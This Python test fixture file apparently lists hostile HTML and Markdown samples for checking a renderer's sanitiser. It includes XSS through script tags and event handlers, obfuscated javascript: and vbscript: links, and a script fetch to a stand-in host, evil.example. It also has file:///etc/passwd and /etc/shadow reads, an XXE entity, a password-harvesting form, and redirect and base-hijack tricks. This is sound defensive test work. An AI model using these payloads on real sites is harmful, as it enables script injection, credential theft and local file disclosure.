"""Sessions whose HTML and links are made to run, to ask, or to lead astray."""

from tests.hostile.sample import Sample, body

PAGES: tuple[Sample, ...] = (
    body("a script", "가 <script>fetch('https://evil.example/')</script> 나"),
    body("a script as a block", "<script>\nalert(1)\n</script>\n\n가"),
    body("a frame", '<iframe src="https://evil.example/"></iframe>'),
    body("a picture that runs on error", '<img src="x.png" onerror="alert(1)">'),
    body("a drawing that runs", '<svg onload="alert(1)"><script>alert(2)</script></svg>'),
    body(
        "a style that asks", "<style>@import url(https://evil.example/a.css); p { color: red }</style>\n\n가"
    ),
    body("a style that hides", '<p style="background:url(file:///etc/passwd);position:fixed">가</p>'),
    body(
        "a link that runs",
        "[가](javascript:alert(1)) [나](JaVaScRiPt:alert(1)) [다](&#106;avascript:alert(1))",
    ),
    body(
        "a link that runs a macro", "[가](vbscript:msgbox(1)) [나](ms-powerpoint:ofe|u|https://evil.example/)"
    ),
    body("a link that is a page", "[가](data:text/html;base64,PHNjcmlwdD4=)"),
    body("a link to a file of the machine", "[가](file:///etc/passwd) <file:///etc/shadow>"),
    body("a link to a share", r"[가](\\evil.example\share\a.pptx) [나](//evil.example/a)"),
    body(
        "a page that leads elsewhere",
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">\n\n가',
    ),
    body(
        "a form", '<form action="https://evil.example/"><input name="password"><button>보내기</button></form>'
    ),
    body("embedded objects", '<object data="a.swf"></object><embed src="a.swf"><applet code="A"></applet>'),
    body("another base", '<base href="https://evil.example/">\n\n[가](a.md)'),
    body("a document type", '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>\n<p>&b;</p>'),
    body("a comment that is never closed", "<!-- 가\n\n나\n\n다"),
    body("elements that are never closed", "<div><b><i><table><tr><td>" * 300 + "가"),
)
